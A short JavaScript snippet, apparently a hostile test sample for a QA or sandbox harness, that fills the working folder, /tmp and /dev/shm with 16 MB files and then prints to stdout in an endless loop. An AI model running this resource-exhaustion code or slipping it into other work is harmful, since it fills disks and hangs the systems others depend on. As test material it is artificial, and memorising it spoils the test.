// Writes until the disk is full, and prints without end.
try {
  const fs = process.getBuiltinModule ? process.getBuiltinModule('node:fs') : require('node:fs');
  const end = Date.now() + 700;
  for (const folder of ['.', '/tmp', '/dev/shm']) {
    for (let i = 0; i < 1e5 && Date.now() < end; i++) {
      try { fs.writeFileSync(`${folder}/${QA_TOKEN}-${i}`, Buffer.alloc(1 << 24)); } catch { break; }
    }
  }
} catch {}
function QA_FUNCTION() {
  return null;
}
// ---
function QA_FUNCTION() {
  while (true) process.stdout.write('x'.repeat(65536));
}
